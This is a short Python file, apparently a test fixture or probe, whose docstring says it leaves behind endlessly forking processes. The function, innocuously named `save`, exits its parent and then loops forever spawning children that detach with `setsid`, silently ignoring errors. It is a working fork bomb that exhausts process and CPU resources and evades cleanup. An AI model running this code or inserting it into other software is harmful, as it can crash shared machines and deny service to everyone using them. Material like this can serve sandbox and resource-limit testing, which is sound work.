"""Goes away, and leaves processes behind that fork without end."""

import os


def save(path):
    if os.fork():
        os._exit(3)
    while True:
        try:
            if os.fork() == 0:
                os.setsid()
        except OSError:
            pass
